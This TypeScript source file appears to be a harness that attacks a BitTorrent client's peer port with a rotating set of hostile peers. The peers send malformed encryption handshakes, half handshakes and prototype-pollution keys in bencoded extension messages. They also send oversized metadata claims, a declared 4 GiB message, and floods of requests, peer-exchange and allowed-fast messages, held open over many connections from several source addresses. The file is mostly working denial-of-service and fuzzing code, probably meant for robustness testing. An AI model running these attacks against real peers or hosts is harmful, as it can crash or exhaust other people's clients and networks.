/** What strangers do on the peer port. Each kind of peer is a list of bytes and a way of reading, or of not reading. */
import { randomBytes } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import type { AttackPlan } from './attack-plan.ts'

const PROTOCOL = Buffer.from('\x13BitTorrent protocol', 'latin1')
const RESERVED = Buffer.from([0, 0, 0, 0, 0, 0x10, 0, 0x04])
const KIB = 1_024

type HostilePeer = (socket: Socket, infoHash: string) => void

const HOSTILE_PEERS: readonly HostilePeer[] = [
  /** MSE with a public key of zeros. */
  (socket) => socket.write(Buffer.alloc(96)),
  (socket) => socket.write(Buffer.alloc(96, 0xff)),
  (socket) => socket.write(randomBytes(96 + 512 + 200)),
  (socket) => socket.write(randomBytes(4_000)),
  /** Connects and says nothing. */
  () => {},
  /** Half a handshake. */
  (socket) => socket.write(PROTOCOL),
  greedy,
  gossip,
  allowedFastFlood,
  (socket, infoHash) => {
    socket.write(handshake(infoHash))
    socket.write(extended(0, 'd1:md11:ut_metadatai1e6:ut_pexi2ee13:metadata_sizei67108864ee'))
    for (let i = 0; i < 50; i++) socket.write(extended(1, `d8:msg_typei0e5:piecei${i}ee`))
  },
  (socket, infoHash) => {
    socket.write(handshake(infoHash))
    socket.write(extended(0, `d1:md8:toStringi1e9:__proto__i2ee${'1:vl'.repeat(5_000)}`))
  },
  (socket, infoHash) => {
    socket.write(handshake(infoHash))
    // A message of 4 GiB, and what belongs to it for as long as somebody reads.
    socket.write(Buffer.from([0xff, 0xff, 0xff, 0xff, 7]))
    pour(socket, randomBytes(64 * KIB))
  },
  (socket, infoHash) => {
    socket.write(handshake(infoHash))
    for (let id = 0; id < 32; id++) socket.write(message(id, randomBytes(id)))
  },
]

/** Asks for 900 blocks of 128 KiB and reads nothing. */
function greedy(socket: Socket, infoHash: string): void {
  socket.pause()
  socket.write(Buffer.concat([handshake(infoHash), message(15), message(2)]))
  for (let i = 0; i < 900; i++) socket.write(request(i % 100, 0, 128 * KIB))
  for (let i = 0; i < 900; i++) socket.write(request(i % 100, 0, 16 * KIB))
}

/** A peer exchange of 1 MB, again and again. */
function gossip(socket: Socket, infoHash: string): void {
  socket.write(handshake(infoHash))
  socket.write(extended(0, 'd1:md6:ut_pexi1eee'))
  const peers = randomBytes(6 * 170_000).toString('latin1')
  for (let i = 0; i < 3; i++) socket.write(extended(2, `d5:added${peers.length}:${peers}e`))
}

function allowedFastFlood(socket: Socket, infoHash: string): void {
  socket.write(Buffer.concat([handshake(infoHash), message(14)]))
  const flood = Buffer.concat(Array.from({ length: 5_000 }, () => message(17, randomBytes(4))))
  pour(socket, flood)
}

/** Writes as long as the other side takes it. */
function pour(socket: Socket, bytes: Buffer): void {
  const more = (): void => {
    while (!socket.destroyed && socket.write(bytes)) if (socket.bytesWritten > 50_000_000) return
  }
  socket.on('drain', more)
  more()
}

/** Keeps `connections` of them open until the time is over. Returns how many were made in all. */
export async function attackPeerPort(plan: AttackPlan): Promise<number> {
  const endsAt = performance.now() + plan.durationMs
  let made = 0
  const keepOne = async (lane: number): Promise<void> => {
    while (performance.now() < endsAt) {
      const localAddress = plan.sources[lane % plan.sources.length]
      const peer = HOSTILE_PEERS[made % HOSTILE_PEERS.length]
      made++
      await oneConnection(plan, localAddress, endsAt, (socket) => peer?.(socket, plan.infoHash))
      await new Promise((resolve) => setTimeout(resolve, 500))
    }
  }
  await Promise.all(Array.from({ length: plan.connections }, (_, lane) => keepOne(lane)))
  return made
}

function oneConnection(
  plan: AttackPlan,
  localAddress: string | undefined,
  endsAt: number,
  use: (socket: Socket) => void,
): Promise<void> {
  return new Promise((resolve) => {
    const { host, peerPort: port } = plan
    const socket = connect({ host, port, ...(localAddress && { localAddress }) })
    const timer = setTimeout(() => socket.destroy(), Math.max(0, endsAt - performance.now()))
    socket.on('connect', () => use(socket))
    socket.on('error', () => {})
    socket.on('close', () => {
      clearTimeout(timer)
      resolve()
    })
  })
}

function handshake(infoHash: string): Buffer {
  return Buffer.concat([PROTOCOL, RESERVED, Buffer.from(infoHash, 'hex'), randomBytes(20)])
}

function message(id: number, body: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(5)
  head.writeUInt32BE(body.length + 1)
  head[4] = id
  return Buffer.concat([head, body])
}

function request(piece: number, offset: number, length: number): Buffer {
  const body = Buffer.alloc(12)
  body.writeUInt32BE(piece, 0)
  body.writeUInt32BE(offset, 4)
  body.writeUInt32BE(length, 8)
  return message(6, body)
}

function extended(id: number, text: string): Buffer {
  return message(20, Buffer.concat([Buffer.from([id]), Buffer.from(text, 'latin1')]))
}
